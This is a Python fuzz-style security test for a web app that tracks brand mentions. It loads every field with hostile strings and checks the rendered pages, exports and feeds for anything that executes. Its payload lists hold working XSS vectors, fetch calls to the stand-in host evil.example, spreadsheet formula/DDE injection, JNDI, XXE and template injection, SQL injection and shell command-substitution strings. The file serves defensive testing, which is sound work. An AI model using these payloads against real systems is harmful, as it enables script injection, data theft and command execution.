"""Texts that want to do harm, in every field of a desk: does anything of them run, anywhere?

`python -m tests.hostile --count 1000` fills desks with them, opens every screen and every mention in Chromium, takes
everything away in every format, and prints what it found. Any finding is a failure.
"""

# ruff: noqa: E501 - each text stands in a line of its own

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree as ET

import openpyxl
from playwright.sync_api import Browser, Dialog
from starlette.testclient import TestClient

from listening import accounts
from listening.config import load
from listening.crawl import prepare
from listening.export import FORMATS
from listening.post import Author, Batch, Post, Quote, Thread
from listening.source import kinds
from listening.store import InboxFilter, Store
from listening.web import application
from listening.web.access import Guarded
from pipelines.ingest import Ingest
from pipelines.understanding import Understanding
from tests.browser import Watched, chromium, serving, watched
from tests.desk import PASSWORD, ROLES, Installation

# What each would do if it ran: set a flag, open a dialog, ask another site.
_RUNS = ("window.__ran=N", "alert(N)", "fetch('https://evil.example/N')", "window['__r'+'an']=`N`", "print(N)")
_TEXTS = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
</script><script>RUN</script>
</textarea></title></style></noscript><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
<script src=//evil.example/N.js></script>
<script type=module>import("https://evil.example/N")</script>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<img src=x onerror=RUN>
<img/src=`x`/onerror=RUN//
<img src=https://evil.example/N.png>
<img srcset="https://evil.example/N 1x">
<body onload=RUN>
<details open ontoggle=RUN>x
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>
<video autoplay onloadstart=RUN><source onerror=RUN src=x>
<audio src=x onerror=RUN>
<marquee onstart=RUN>
<div onpointerover=RUN style=position:fixed;inset:0>
<div contenteditable autofocus onfocus=RUN tabindex=0>
<a href="javascript:RUN" id=x autofocus>x</a>
<a href=" &#x6a;avascript:RUN">x</a>
<form action="javascript:RUN"><button>x</button></form>
<button formaction=javascript:RUN autofocus>x
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="https://evil.example/N.swf">
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/N">
<link rel=stylesheet href=https://evil.example/N.css>
<link rel=prefetch href=https://evil.example/N>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<dialog open><form method=dialog><button onclick=RUN>Close</button></form></dialog>
" onmouseover="RUN" x="
' autofocus onfocus='RUN' x='
" autofocus tabindex=1 onfocus=RUN x="
"><img src=x onerror=RUN>
'><svg onload=RUN>
` onload=RUN `
x" accesskey=x onclick=RUN y="
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:RUN /><a><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>
<svg><image href=https://evil.example/N.svg />
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math href=javascript:RUN>x</math>
<style>*{background:url(https://evil.example/N)!important}</style>
</style><style>@import 'https://evil.example/N';</style>
" style="position:fixed;inset:0;z-index:99;background:url(https://evil.example/N)" x="
<div style="width:99999px;height:99999px">x</div>
<style>body{display:none}main *{position:fixed}</style>
<p style="x:expression(RUN)">
=cmd|'/c calc'!A0
=HYPERLINK("https://evil.example/N","see")
=WEBSERVICE("https://evil.example/N")
=IMPORTXML("https://evil.example/N","//a")
=1+1
+1+1
-2+3
@SUM(1+1)*cmd|' /C calc'!A0
＝1+1
＋1+1
 =1+1
'=1+1
''=1+1
"=1+1
;=1+1
,=1+1
|=1+1
x;=HYPERLINK("https://evil.example/N")
{=1+1}
_x003D_1+1
_x000D_=1+1
%=1+1
=DDE("cmd";"/C calc";"N")
-cmd|'/c calc'!A0
{{7*7}}{{config}}
{{ request.app.state.desk.__class__.__mro__ }}
{% include "/etc/passwd" %}{% for x in y %}
${7*7}${jndi:ldap://evil.example/N}
<%= 7*7 %>#{7*7}[[${7*7}]]
%s%n%x{0}{0.__class__}{}
{{ 'x' | safe }}{# x #}
{%- raw -%}{{ x }}
<div hx-get="https://evil.example/N" hx-trigger="load">
<div hx-get="/settings/people" hx-trigger="load" hx-target="body">
<div data-hx-post="/settings/people/remove" data-hx-trigger="load">
<div hx-on:load="RUN" hx-on::before-request="RUN">
<div hx-trigger="load[RUN]" hx-get="/">
<form hx-post="/inbox/act" hx-vals='js:{x:RUN}' hx-trigger="load">
" hx-get="https://evil.example/N" hx-trigger="load" x="
" hx-on:click="RUN" hx-trigger="load" x="
<meta name="htmx-config" content='{"allowEval":true}'>
<div hx-swap-oob="innerHTML:body"><script>RUN</script></div>
" data-send data-undo="/settings/people/remove" data-key="j" x="
"}],"x":[{"y":"
"};RUN;//
';RUN;//
\\";RUN;//
\\u003cscript\\u003eRUN\\u003c/script\\u003e
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
&quot; onload=&quot;RUN
&amp;lt;script&amp;gt;RUN
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>
<!--<img src="--><img src=x onerror=RUN//">
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
'; DROP TABLE mentions; -- N
" OR ""="
$(touch /tmp/evil-N)`touch /tmp/evil-N`
../../../../etc/passwd
status=open&brand=x#y?z
NEAR(a b, 3) AND (" OR * NOT ^
javascript:RUN
[x](javascript:RUN) ![x](https://evil.example/N)
<https://evil.example/N> www.evil.example/N
""".strip("\n").split("\n")
_SIGNS = (
    "\u202eevil\u202c txt.exe\u202e", "\u2066\u2067\u2068\u202b" * 20, "مرحبا \u202e=1+1\u202c 123", "\u200f\u200e" * 30,
    "\u200b".join("script"), "<\u200bscript>RUN<\u200b/script>", "Z" + "\u0301\u0322\u0353\u0334" * 120, "\ufeff=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1\n@SUM(1)", "\x00", "a\x00<script>RUN</script>", "<scr\x00ipt>RUN</script>",
    "java\tscript:RUN", "\x01javascript:RUN", "\x1b[2J\x1b]0;evil\x07", "\x7f\x80\x85\x9b", "x\r\nSet-Cookie: evil=1\r\n\r\n<script>RUN</script>",
    "\u2028RUN\u2029", "\ufffe\uffff\U0001fffe", "\ud800", "a\udfff<script>RUN</script>\ud800", "\ud83d", "W" * 4000, "ﷺ" * 200,
    "👩‍👩‍👧‍👦" * 120, "\n" * 300 + "x", " " * 2000 + "x", "\u3164" * 40, "﷽" * 60, "i" * 120 + "\u00ad" * 200, "<" * 2000, "&" * 2000, "\"'`" * 300,
    "\\" * 500, "%" * 500, "﹤script﹥RUN﹤/script﹥", "＜script＞RUN＜/script＞", "ʺ onload=RUN", "\u0000=1+1", "\v=1+1", "\f=1+1",
)  # fmt: skip
_ADDRESSES = """
javascript:RUN
JaVaScRiPt:RUN
javascript://evil.example/%0aRUN
data:text/html,<script>RUN</script>
vbscript:RUN
//evil.example/N
https://a:b@evil.example/N
http://[
https://evil.example/"onmouseover="RUN
https://evil.example/'><script>RUN</script>
https://evil.example/N?=1+1
file:///etc/passwd
blob:https://evil.example/N
view-source:javascript:RUN
=HYPERLINK("https://evil.example/N")
https://evil.example/\u202egnp.N
https://evil.example/\x00N
 javascript:RUN
https://ev\u0131l.example/N
mailto:x@evil.example?body=<script>RUN</script>
""".strip("\n").split("\n")
_ROOM = 32  # characters that a text may have more than a name


def texts(count: int, seed: int = 7) -> list[str]:
    """So many texts, each another: first every kind as it is, then grown by what breaks out of where they may stand."""
    chance = random.Random(seed)
    kinds_of = [*_TEXTS, *_SIGNS]
    found: dict[str, None] = {}
    number = 0
    while len(found) < count:
        text = kinds_of[number % len(kinds_of)]
        if number >= len(kinds_of):
            text = _grown(text, chance)
        found[_armed(text, number)] = None
        number += 1
    return list(found)


def addresses(count: int) -> list[str]:
    """So many addresses that should never be opened by a click."""
    return [_armed(_ADDRESSES[number % len(_ADDRESSES)], number) for number in range(count)]


def _armed(text: str, number: int) -> str:
    run = _RUNS[number % len(_RUNS)]
    return re.sub(r"\bN\b", str(number), text.replace("RUN", run))


def _grown(text: str, chance: random.Random) -> str:
    out = ("", '">', "'>", "-->", "</textarea>", "</script>", "</style>", "</title>", "</select>", "`}", "*/", "\u202e", " ", "\x00", "&#62;", "?>", "]]>")  # fmt: skip
    other = chance.choice(_TEXTS)
    ways = (
        lambda: chance.choice(out) + text,
        lambda: text + chance.choice(out) + other,
        lambda: "".join(c.upper() if chance.random() < 0.5 else c for c in text),
        lambda: text.replace("<", "&lt;", 1) + text,
        lambda: text.replace(" ", chance.choice("\t\n\f/")),
        lambda: chance.choice(out) + quote(text, errors="replace") + text,
        lambda: text.replace("<", "<" + chance.choice("\u200b\x00/!")) + text,
        lambda: f"{chance.randrange(10**6)} {text} {chance.choice(out)}",
    )
    return str(chance.choice(ways)())


def fitted(text: str, most: int, banned: str = "") -> str:
    """The text as a name that the desk takes: printable, short, without what is refused there."""
    plain = " ".join("".join(c if c.isprintable() and c not in banned else " " for c in text).split())
    return plain[:most].strip(" -.") or "plain"


@dataclass
class Findings:
    """What was looked at, and what was wrong."""

    pages: int = 0
    files: int = 0
    cells: int = 0
    faults: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)


def fill(home: Path, hostile: Sequence[str]) -> Installation:
    """A desk in which each of these texts stands in every field there is."""
    folder = home / "config"
    folder.mkdir(parents=True)
    now = datetime.now(UTC).replace(microsecond=0)
    brands, sources = _names(hostile, 150), _names(hostile, 150, "/\\")
    (folder / "listening.toml").write_text('database = "listening.db"\n', encoding="utf-8")
    _write(folder / "brands.toml", "brand", [{"name": "Acme"}, *(
        {"name": name, "query": f'"brandword{number}"', "owner": fitted(hostile[number % len(hostile)], 60)}
        for number, name in enumerate(brands)
    )])  # fmt: skip
    _write(folder / "sources.toml", "source", [
        {"name": name, "kind": "board", "url": f"https://forum{number}.example/"} for number, name in enumerate(sources)
    ])  # fmt: skip
    config = load(folder, {name: kind.Options for name, kind in kinds().items()})
    with prepare(config) as store:
        understanding = Understanding(config.brands)
        for number, source in enumerate(sources):
            posts = [_post(number, at, hostile, now) for at in range(number, len(hostile), len(sources))]
            Ingest(store, source, understanding).save([Batch(posts)])
            run = store.start_run(source, now - timedelta(minutes=5))
            told = hostile[number % len(hostile)].encode("utf-8", "replace").decode()
            store.finish_run(run, "failed", told, errors=1, pages=1, now=now)
        _work(store, hostile, now)
    return Installation(folder, application(folder))


def _names(hostile: Sequence[str], most: int, banned: str = "") -> list[str]:
    found: dict[str, str] = {}
    for text in hostile:
        name = fitted(text, most, banned)
        found.setdefault(name.casefold(), name)
    return list(found.values())


def _write(path: Path, table: str, rows: Sequence[dict[str, str]]) -> None:
    lines = []
    for row in rows:
        values = [f"{key} = {json.dumps(value, ensure_ascii=False)}" for key, value in row.items()]
        lines += [f"[[{table}]]", *values, ""]
    path.write_text("\n".join(lines), encoding="utf-8")


def _post(source: int, number: int, hostile: Sequence[str], now: datetime) -> Post:
    """A post whose fields are the text of its number and those after it."""

    def text(step: int) -> str:
        return hostile[(number + step) % len(hostile)]

    url = addresses(number + 1)[-1]
    author = Author(name=text(3), id=f"{number}{text(4)[:_ROOM]}", url=url, followers=number)
    feeling = ("is awful, it crashed and I want a refund", "is great, I recommend it", "has a shop")[number % 3]
    return Post(
        platform=f"forum{source}.example", id=str(number), url=url if number % 2 else f"https://forum.example/{number}",
        text=f"{text(0)} Acme {feeling}. brandword{number} {text(0)}", title=text(1), author=author,
        thread=Thread(id=str(number // 3), title=text(2), url=url), position=number % 3 + 1, channel=text(5),
        quotes=(Quote(text(6), text(7)),), published=now - timedelta(minutes=20 * number + 5),
    )  # fmt: skip


def _work(store: Store, hostile: Sequence[str], now: datetime) -> None:
    """Accounts, views, tags, notes, owners and answers of the same kind."""
    for role in reversed(ROLES):
        accounts.add(store, role, PASSWORD, role, private=role == "admin", now=now)
    for name in _names(hostile, 80)[:20]:  # a password takes its time
        accounts.add(store, name, PASSWORD, "viewer", private=False, now=now)
        account = store.account(name)
        assert account is not None
        accounts.add_token(store, account[0], name, "viewer", days=1, now=now)
    for name in _names(hostile, 80):
        store.save_view(name, f"tag={quote(name)}&assignee={quote(name)}", who=name, now=now)
        store.save_view(name, "status=open", who="analyst", now=now, shared=True)
    for number, ident in enumerate(list(store.listed(InboxFilter(fold=False), now=now))):
        text = hostile[number % len(hostile)].encode("utf-8", "replace").decode()
        store.triage(
            [ident], who=fitted(text, 80), now=now, add_tags=[fitted(text, 60)], note=text,
            assignee=fitted(text, 100), reply=f"https://evil.example/{fitted(text, 100)}",
        )  # fmt: skip


class Harmed:
    """A page, and whether anything on it ran."""

    def __init__(self, seen: Watched, findings: Findings) -> None:
        self.seen, self.findings = seen, findings
        seen.page.on("dialog", self._dialog)
        seen.page.add_init_script("window.print = () => { window.__ran = 'print' }")

    def _dialog(self, dialog: Dialog) -> None:
        self.findings.faults.append(f"{self.seen.page.url}: a dialog says {dialog.message[:80]}")
        dialog.dismiss()

    def look(self, path: str) -> None:
        """Open a page and look for what came of the texts."""
        self.seen.open(path)
        self.check()

    def glance(self, path: str) -> None:
        """The same without waiting for what comes after the page: it is heard all the same."""
        self.seen.page.goto(self.seen.base + path)
        self.check()

    def check(self) -> None:
        """Look at the page as it is."""
        self.findings.pages += 1
        found = self.seen.page.evaluate(_LOOK)
        self.findings.faults += [f"{self.seen.page.url}: {each}" for each in found]
        self.findings.faults += self.seen.complaints
        self.seen.complaints.clear()


_LOOK = """() => {
  const found = []
  if (window.__ran !== undefined) found.push('it ran: ' + window.__ran)
  for (const each of document.querySelectorAll('iframe:not([sandbox=""][src^="/digests/letter?"]), object, embed, base, foreignObject, animate, style, template[shadowrootmode], marquee, math, video, audio'))
    found.push('an element of theirs: ' + each.outerHTML.slice(0, 120))
  for (const each of document.querySelectorAll('script, link, img, use, form, a, button')) {
    const to = each.href?.baseVal ?? each.src ?? each.href ?? (each.hasAttribute('action') ? each.getAttribute('action') : '')
    if (!to || each.tagName === 'A' && /^(https?|mailto):/.test(to)) continue
    if (/^data:image\\/|^#/.test(to)) continue
    if (new URL(to, location.href).origin !== location.origin) found.push('leads away: ' + each.outerHTML.slice(0, 120))
  }
  for (const each of document.querySelectorAll('*'))
    for (const { name, value } of each.attributes)
      if (name.startsWith('on') || name.startsWith('hx-on') || name.startsWith('data-hx-') || /^hx-/.test(name) && /evil|script|RUN|__ran/i.test(value))
        found.push('an attribute of theirs: ' + name + '=' + value.slice(0, 80))
  const width = document.documentElement.scrollWidth
  if (width > window.innerWidth) found.push('it is ' + width + ' pixels wide')
  return found
}"""


def visit(browser: Browser, base: str, desk: Installation, findings: Findings, details: int) -> None:
    """Open each screen as an admin, lists page by page, and so many mentions."""
    with watched(browser, base) as seen:
        seen.sign_in("admin")
        harmed = Harmed(seen, findings)
        for path in screens(desk):
            harmed.look(path)
        with desk.visitor("admin") as client:
            idents = _inbox(client, harmed)
            for brand in client.get("/api/v1/brands").json()["brands"][:3]:
                harmed.look(f"/overview?brand={quote(brand['name'])}&period=365d")
                harmed.look(f"/brands/edit?name={quote(brand['name'])}")
        for ident in idents[:details]:
            harmed.glance(f"/mentions/{ident}")
        _by_keyboard(harmed)


def _inbox(client: TestClient, harmed: Harmed) -> list[int]:
    found: list[int] = []
    cursor = ""
    while True:
        page = client.get(f"/api/v1/mentions?copies=1&limit=30&cursor={cursor}").json()
        harmed.glance(f"/inbox?copies=1{f'&after={cursor}' if cursor else ''}")
        found += [each["id"] for each in page["mentions"] if each["brand"] == "Acme"]
        cursor = page["next"]
        if cursor is None:
            return found


def _by_keyboard(harmed: Harmed) -> None:
    """Cards that are opened in place: parts of pages are put in by scripts of ours."""
    page = harmed.seen.open("/inbox?copies=1")
    for number in range(1, 6):
        page.keyboard.press("j")
        card = page.wait_for_selector(f"#cards > [data-item]:nth-of-type({number})[aria-current]")
        assert card is not None
        page.wait_for_selector(f"#detail [data-of='{card.get_attribute('data-item')}']")
        harmed.check()


def screens(desk: Installation) -> list[str]:
    """All pages that stand alone."""
    paths = [
        route.path for route in desk.app.routes
        if isinstance(route, Guarded) and "GET" in (route.methods or ()) and "{" not in route.path
    ]  # fmt: skip
    with desk.visitor("admin") as client:
        answers = {path: client.get(path) for path in paths if path not in ("/", "/login", "/export")}
    return [
        path for path, answer in answers.items()
        if answer.status_code == 200 and answer.headers["content-type"].startswith("text/html")
        and "<html" in answer.text
    ]  # fmt: skip


def take_away(desk: Installation, home: Path, findings: Findings) -> None:
    """Everything in every format, and the API: nothing may be a formula, a link or markup, and all is well-formed."""
    with desk.visitor("admin") as client:
        for form in FORMATS:
            answer = client.get(f"/export?copies=1&format={form}")
            if answer.status_code != 200:
                findings.faults.append(f"/export as {form}: {answer.status_code} {answer.text[:200]}")
                continue
            findings.files += 1
            findings.faults += [f"{form}: {fault}" for fault in _faults(form, answer.content, findings)]
            if form in ("csv", "brandwatch", "xlsx"):
                path = home / f"{form}{FORMATS[form].suffix}"
                path.write_bytes(answer.content)
                findings.faults += _in_libreoffice(path, findings)
        for view in client.get("/api/v1/views").json()["views"][:20]:
            for form in ("atom", "rss"):
                answer = client.get(f"/feeds/{view['id']}.{form}")
                findings.files += 1
                findings.faults += [f"feed {form}: {fault}" for fault in _faults(form, answer.content, findings)]
        for path in ("mentions?copies=1&limit=200", "figures?period=365d", "brands", "sources", "views", "health"):
            client.get(f"/api/v1/{path}").raise_for_status().json()
            findings.files += 1


_FORMULA = re.compile(r"[\s\u00a0]*[=+\-@＝＋－＠]|[\t\r]")


def _faults(form: str, content: bytes, findings: Findings) -> Iterator[str]:
    if form in ("csv", "brandwatch"):
        for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            findings.cells += len(row)
            numbers = ("sentiment_score",)
            yield from (f"{k} begins {v[:20]!r}" for k, v in row.items() if k not in numbers and _FORMULA.match(v))
    elif form == "xlsx":
        for sheet in zipfile.ZipFile(io.BytesIO(content)).namelist():
            if re.search(rb"<f[ >]|<hyperlink", zipfile.ZipFile(io.BytesIO(content)).read(sheet)):
                yield f"{sheet} holds a formula or a link"
        for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
            findings.cells += len(row)
            yield from (f"{cell.coordinate} is a formula" for cell in row if cell.data_type == "f" or cell.hyperlink)
    elif form in ("atom", "rss"):
        allowed = {"feed", "rss", "channel", "entry", "item", "author"}
        for each in ET.fromstring(content).iter():
            findings.cells += 1
            name = each.tag.rpartition("}")[2]
            if len(each) and name not in allowed:
                yield f"<{name}> holds markup"
            link = each.get("href") or (each.text if name == "link" else "") or "https://"
            if not link.startswith(("https://", "http://")):
                yield f"a link to {link[:40]}"
            if form == "rss" and name == "description" and re.search(r"<(?!br>)", each.text or ""):
                yield f"a description with markup: {(each.text or '')[:80]}"
    elif form == "jsonl":
        findings.cells += sum(len(json.loads(line)) for line in content.split(b"\n") if line)
    else:
        from pyarrow import parquet

        findings.cells += parquet.read_table(io.BytesIO(content)).num_rows


def _in_libreoffice(path: Path, findings: Findings) -> list[str]:
    """What LibreOffice takes for a formula once it has opened the file."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        findings.words = ["LibreOffice is not installed here: its own reading of the files was not tried."]
        return []
    command = [office, "--headless", f"-env:UserInstallation=file://{path.parent}/office", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", path.parent, path], check=True, capture_output=True, timeout=300)
    read = path.with_suffix(".fods").read_text(encoding="utf-8")
    return [f"{path.name} in LibreOffice: {each[:80]}" for each in re.findall(r'table:formula="[^"]*"', read)]


def run(browser: Browser, home: Path, hostile: Sequence[str], details: int, findings: Findings) -> None:
    """One desk full of them, looked at and taken away."""
    desk = fill(home, hostile)
    take_away(desk, home, findings)
    with serving(desk) as base:
        visit(browser, base, desk, findings, details)


def main(arguments: Sequence[str] | None = None) -> int:
    """Print what was found; 1 where anything was."""
    parser = argparse.ArgumentParser(prog="python -m tests.hostile", description=__doc__)
    parser.add_argument("--count", type=int, default=1000, help="how many texts")
    parser.add_argument("--desk", type=int, default=100, help="how many of them in one desk")
    given = parser.parse_args(arguments)
    every, findings, begun = texts(given.count), Findings(), time.monotonic()
    told = 0
    with chromium() as browser:
        for first in range(0, given.count, given.desk):
            some = every[first : first + given.desk]
            with tempfile.TemporaryDirectory() as home:
                run(browser, Path(home), some, len(some), findings)
            for fault in dict.fromkeys(findings.faults[told:]):
                print(f"FAULT {fault!a}")
            told = len(findings.faults)
            print(f"{first + len(some):,} texts: {findings.pages:,} pages, {findings.files:,} files, "
                  f"{findings.cells:,} cells, {len(findings.faults):,} faults", flush=True)  # fmt: skip
    for word in findings.words:
        print(word)
    print(f"{time.monotonic() - begun:.0f} s")
    return 1 if findings.faults else 0


if __name__ == "__main__":
    sys.exit(main())
